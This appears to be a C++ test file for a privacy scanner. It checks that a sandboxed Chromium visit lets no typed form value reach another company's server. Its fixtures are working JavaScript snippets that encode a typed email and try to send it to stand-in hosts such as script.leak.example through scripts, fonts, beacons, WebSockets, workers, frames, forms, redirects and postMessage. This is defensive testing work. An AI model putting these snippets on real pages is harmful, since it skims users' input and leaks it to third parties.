// What a page's own script knows of what was typed, it may code as it likes and ask another company's server
// for something by it. None of these pages gets a single request, look-ups included, out to one after the
// first value.
#include <doctest/doctest.h>

#include <mutex>
#include <set>

#include "scanner/browser/chromium_browser.h"
#include "scanner/model/public_suffix.h"
#include "scanner/model/url.h"

using namespace formleak;

namespace {

constexpr const char* kTyped = "prov.kx7q9zwv@example.com";
constexpr const char* kSite = "https://www.escapes.example/";

struct Named {
    const char *name, *code;
};

// From the value `v` to a text of letters and digits, such as fits any part of an address.
constexpr Named kCodings[] = {
    {"xor", "[...v].map(c => (c.charCodeAt(0) ^ 0x5a).toString(16).padStart(2, '0')).join('')"},
    {"char codes", "[...v].map(c => c.charCodeAt(0)).join('x')"},
    {"caesar",
     "v.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 3) % 26 + 97)).replace(/\\W/g, "
     "'0')"},
    {"reversed base64", "btoa([...v].reverse().join('')).replace(/=/g, '')"},
    {"joined", "[...v].map(c => /\\w/.test(c) ? c : 'q').join('z')"},
    {"two characters", "v.slice(5, 7)"},
    {"a random key",
     "(() => { const k = [...v].map(() => Math.random() * 256 | 0); return [...v].map((c, i) => "
     "(c.charCodeAt(0) ^ k[i]).toString(16).padStart(2, '0')).join('') + 'k' + k.join('x'); })()"},
    {"sum", "'s' + [...v].reduce((a, c) => (a * 31 + c.charCodeAt(0)) >>> 0, 7)"},
    {"length", "'n' + v.length"},
    {"plain", "v.replace(/\\W/g, '')"}};

// How `x` is handed over to `h`, a host of its own for each way ("https://script.leak.example").
constexpr Named kResources[] = {
    {"script", "add('script', {src: h + '/' + x + '.js'})"},
    {"module", "add('script', {type: 'module', src: h + '/' + x + '.mjs'})"},
    {"import", "import(h + '/' + x + '.mjs').catch(() => 0)"},
    {"style", "add('link', {rel: 'stylesheet', href: h + '/' + x + '.css'})"},
    {"cssimport", "add('style', {textContent: '@import \"' + h + '/' + x + '.css\";'})"},
    {"background", "add('p', {style: 'background:url(' + h + '/' + x + '.png)', textContent: 'x'})"},
    {"font", "new FontFace('f' + x, 'url(' + h + '/' + x + '.woff2)').load().catch(() => 0)"},
    {"image", "new Image().src = h + '/' + x"},
    {"preload", "add('link', {rel: 'preload', as: 'style', href: h + '/' + x + '.css'})"},
    {"modulepreload", "add('link', {rel: 'modulepreload', href: h + '/' + x + '.mjs'})"},
    {"prefetch", "add('link', {rel: 'prefetch', href: h + '/' + x})"},
    {"object", "add('object', {data: h + '/' + x})"},
    {"embed", "add('embed', {src: h + '/' + x, type: 'text/html'})"},
    {"video", "add('video', {src: h + '/' + x + '.mp4', preload: 'auto'})"},
    {"manifest", "add('link', {rel: 'manifest', href: h + '/' + x + '.json'})"},
    {"bits",
     "[...x].slice(0, 6).forEach((c, i) => add('script', {src: h + '/' + i + (c.charCodeAt(0) & 1 ? 'a' : "
     "'b') + '.js'}))"},
    {"hostlabel",
     "add('script', {src: h.replace('//', '//a' + x.slice(0, 50).toLowerCase() + '.') + '/l.js'})"}};
constexpr Named kMessages[] = {
    {"fetch", "fetch(h + '/' + x).catch(() => 0)"},
    {"post", "fetch(h + '/p', {method: 'POST', body: x}).catch(() => 0)"},
    {"nocors", "fetch(h + '/' + x, {mode: 'no-cors', keepalive: true}).catch(() => 0)"},
    {"header", "fetch(h + '/h', {headers: {'X-Part': x}}).catch(() => 0)"},
    {"xhr", "(() => { const r = new XMLHttpRequest(); r.open('GET', h + '/' + x); r.send(); })()"},
    {"beacon", "navigator.sendBeacon(h + '/b', x)"},
    {"eventsource", "new EventSource(h + '/' + x)"},
    {"websocket", "new WebSocket(h.replace('https', 'wss') + '/' + x)"},
    {"worker",
     "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + h + '/' + x + '\").catch(() => 0)'])))"},
    {"importscripts",
     "new Worker(URL.createObjectURL(new Blob(['try { importScripts(\"' + h + '/' + x + '.js\") } "
     "catch {}'])))"},
    {"referrer",
     "(() => { const a = location.href; history.replaceState(0, '', '/r/' + x); fetch(h + '/r', "
     "{referrerPolicy: 'unsafe-url'}).catch(() => 0); history.replaceState(0, '', a); })()"},
    {"later", "setTimeout(() => add('script', {src: h + '/' + x + '.js'}), 900)"}};
constexpr Named kDocuments[] = {
    {"frame", "add('iframe', {src: h + '/' + x})"},
    {"srcdoc", "add('iframe', {srcdoc: '<script src=\"' + h + '/' + x + '.js\"><\\/script>'})"},
    {"dataframe", "add('iframe', {src: 'data:text/html,<img src=' + h + '/' + x + '>'})"},
    {"popup", "open(h + '/' + x)"},
    {"noopener", "open(h + '/' + x, '_blank', 'noopener')"},
    {"getform", "send(h + '/g', 'get', x)"},
    {"postform", "send(h + '/p', 'post', x)"},
    {"ping", "(() => { const a = add('a', {href: '#p', ping: h + '/' + x}); a.click(); })()"},
    {"redirect", "fetch('/to/' + encodeURIComponent(h + '/' + x)).catch(() => 0)"},
    {"frameredirect", "add('iframe', {src: '/to/' + encodeURIComponent(h + '/' + x)})"},
    {"loadedframe", "frames[0].postMessage(h + '/' + x, '*')"},
    {"location", "location = h + '/' + x"}};

std::string script_of(const Named& coding, std::span<const Named> ways) {
    std::string out =
        "const add = (tag, what) => { const e = Object.assign(document.createElement(tag), what); "
        "document.body.append(e); return e; };\n"
        "const send = (to, method, x) => { const f = add('form', {action: to, method, target: '_blank'}); "
        "f.append(Object.assign(document.createElement('input'), {name: 'n', value: x, type: 'hidden'})); "
        "f.submit(); };\n"
        "const field = document.querySelector('input');\n"
        "const hand = () => { const v = field.value; if (!v) return; const x = " +
        std::string(coding.code) + ";\n";
    for (const Named& way : ways)
        out += "try { const h = 'https://" + std::string(way.name) + ".leak.example'; " + way.code +
               "; } catch (e) {}\n";
    return out +
           "};\nfield.addEventListener('blur', hand);\n"
           "document.querySelector('button').addEventListener('click', hand);\n";
}

// A page of the site with a frame of another company's, which was there before anybody typed.
std::string page_of(const Named& coding, std::span<const Named> ways) {
    return "<!doctype html><title>Kontakt</title><iframe src='https://partner.example/f'></iframe>"
           "<form action='/tack' method='post'><label>E-post <input type='email' name='epost'></label>"
           "<button type='button'>Vidare</button></form><p>En sida som berättar allt för alla.</p><script>" +
           script_of(coding, ways) + "</script>";
}

HttpResponse answer(const std::string& url, int status, const char* type, std::string body) {
    HttpResponse out;
    out.url = out.final_url = url;
    out.status = status;
    out.headers = {{"Content-Type", type}};
    out.body = std::move(body);
    return out;
}

// What our fetcher, the one way out, was asked for.
struct World {
    std::string page;
    std::mutex mutex;
    std::multiset<std::string> asked;

    HttpResponse serve(const HttpRequest& request) {
        const auto url = parse_url(request.url);
        const std::lock_guard lock(mutex);
        asked.insert(url->host);
        if (url->host == "partner.example")
            return answer(
                request.url, 200, "text/html",
                "<script>onmessage = e => { new Image().src = e.data; fetch(e.data).catch(() => 0); "
                "document.cookie = 'x=' + e.data; location = e.data; }</script>");
        if (url->host != "www.escapes.example") return answer(request.url, 200, "text/javascript", "");
        if (url->path.starts_with("/to/")) {
            HttpResponse out = answer(request.url, 302, "text/plain", "");
            out.headers.push_back({"Location", percent_decode(url->path.substr(4))});
            return out;
        }
        return answer(request.url, 200, "text/html; charset=utf-8", url->path == "/" ? page : "<p>Tack</p>");
    }
};

VisitResult visit(browser::Browser& browser, World& world) {
    browser::VisitHooks hooks;
    hooks.fetch = [&world](const HttpRequest& request) -> Result<HttpResponse> {
        return world.serve(request);
    };
    hooks.values_for = [](const std::vector<browser::SeenField>& fields) {
        return std::vector<std::string>(fields.size(), kTyped);
    };
    // Nothing is recognised: what holds must not hang on that.
    hooks.carries_typed = [](const Request&) { return false; };
    hooks.is_third_party = [](const Request& request) {
        const auto url = parse_url(as_web_address(request.url));
        return !url || registrable_domain(url->host) != "escapes.example";
    };
    hooks.now = [] { return std::string("2026-01-01T00:00:00Z"); };
    browser::VisitPlan plan;
    plan.url = kSite;
    plan.own_hosts = {"www.escapes.example"};
    plan.take_pictures = false;
    return browser.visit(plan, hooks);
}

bool was_tried(const VisitResult& result, const std::string& host) {
    return std::any_of(result.exchanges.begin(), result.exchanges.end(), [&](const Exchange& exchange) {
        const auto url = parse_url(as_web_address(exchange.request.url));
        return url && (url->host == host || url->host.ends_with("." + host));
    });
}

// Tried and not recorded: the page's own protections, or a kind that the browser does not load here.
const std::set<std::string> kNotMade = {"manifest"};

void check_ways(browser::Browser& browser, const Named& coding, std::span<const Named> ways) {
    World world;
    world.page = page_of(coding, ways);
    const VisitResult result = visit(browser, world);
    REQUIRE(result.fields.size() == 1);
    CHECK(result.fields[0].kept == kTyped);
    for (const std::string& host : world.asked) {
        CAPTURE(host);
        CHECK((host == "www.escapes.example" || host == "partner.example"));
    }
    CHECK(world.asked.count("partner.example") == 1);
    for (const Named& way : ways) {
        CAPTURE(std::string(way.name));
        if (!kNotMade.contains(way.name)) CHECK(was_tried(result, way.name + std::string(".leak.example")));
    }
}

browser::ChromiumBrowser& chromium() {
    static const auto started = [] {
        auto browser = browser::ChromiumBrowser::start({});
        if (!browser) FAIL(browser.error());
        return std::move(browser).value();
    }();
    return *started;
}

}  // namespace

TEST_CASE("escapes: scripts, styles, fonts and pictures take nothing out, in whatever coding") {
    for (const Named& coding : kCodings) {
        CAPTURE(std::string(coding.name));
        check_ways(chromium(), coding, kResources);
    }
}

TEST_CASE("escapes: messages, sockets and workers take nothing out, in whatever coding") {
    for (const Named& coding : kCodings) {
        CAPTURE(std::string(coding.name));
        check_ways(chromium(), coding, kMessages);
    }
}

TEST_CASE("escapes: frames, windows, forms and redirects take nothing out, in whatever coding") {
    for (const Named& coding : kCodings) {
        CAPTURE(std::string(coding.name));
        check_ways(chromium(), coding, kDocuments);
    }
}

TEST_CASE("escapes: a new host of the site's own domain hears nothing either") {
    World world;
    const Named kWay[] = {{"own",
                           "add('script', {src: 'https://a' + x.slice(0, 40).toLowerCase() + "
                           "'.escapes.example/l.js'}); fetch('https://b' + x.slice(0, 40).toLowerCase() + "
                           "'.escapes.example/').catch(() => 0)"}};
    world.page = page_of(kCodings[0], kWay);
    visit(chromium(), world);
    for (const std::string& host : world.asked) {
        CAPTURE(host);
        CHECK((host == "www.escapes.example" || host == "partner.example"));
    }
}
